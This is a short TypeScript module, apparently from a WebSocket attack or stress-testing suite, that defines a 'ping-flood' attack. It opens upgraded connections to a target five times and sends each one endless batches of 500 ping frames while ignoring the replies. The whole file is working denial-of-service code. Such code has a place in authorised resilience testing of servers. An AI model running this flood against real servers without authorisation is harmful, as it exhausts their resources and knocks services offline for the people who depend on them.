import type { Attack } from '../attack.ts';
import { flood, frame, OPCODES } from '../frames.ts';

const PINGS = Buffer.concat(Array(500).fill(frame({ opcode: OPCODES.ping, payload: Buffer.alloc(120) })));

/** Endless pings. The pongs are never read. */
export const pingFlood: Attack = {
  name: 'ping-flood',
  run: (target, signal) =>
    target.repeat(5, async (address) => {
      const socket = await target.upgraded(address);
      if (socket) await flood(socket, PINGS, signal);
    }),
};
